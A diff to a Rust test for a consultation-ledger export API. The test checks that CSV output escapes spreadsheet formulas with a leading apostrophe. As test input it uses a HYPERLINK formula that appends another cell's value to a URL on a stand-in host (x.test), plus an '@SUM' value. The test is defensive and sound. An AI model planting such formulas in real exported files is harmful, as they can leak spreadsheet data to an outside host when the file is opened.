@@ -427,6 +427,24 @@ async fn the_ledger_exports_csv_and_xlsx_with_chinese_headers_and_masking(backen
     app.get("/api/v1/consultations/export?format=pdf", "admin")
         .await
         .assert_problem(400);
+
+    // Text that a spreadsheet would run as a formula is written so that it is only shown.
+    let mut formula = body(lg, "=HYPERLINK(\"http://x.test/?\"&A2,\"点击\")");
+    formula["answer"] = json!("@SUM(1+1)");
+    register(&app, "staff.longgang", &formula).await;
+    let csv = app
+        .get("/api/v1/consultations/export?format=csv", "admin")
+        .await;
+    let text = String::from_utf8(csv.body[3..].to_vec()).unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().unwrap();
+    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let row = rows
+        .iter()
+        .find(|r| r[column("咨询内容")].contains("HYPERLINK"))
+        .expect("the second registration");
+    assert!(row[column("咨询内容")].starts_with("'="), "{row:?}");
+    assert!(row[column("答复内容")].starts_with("'@"), "{row:?}");
 }
 
 async fn a_township_cannot_see_another_townships_consultations(backend: Backend) {
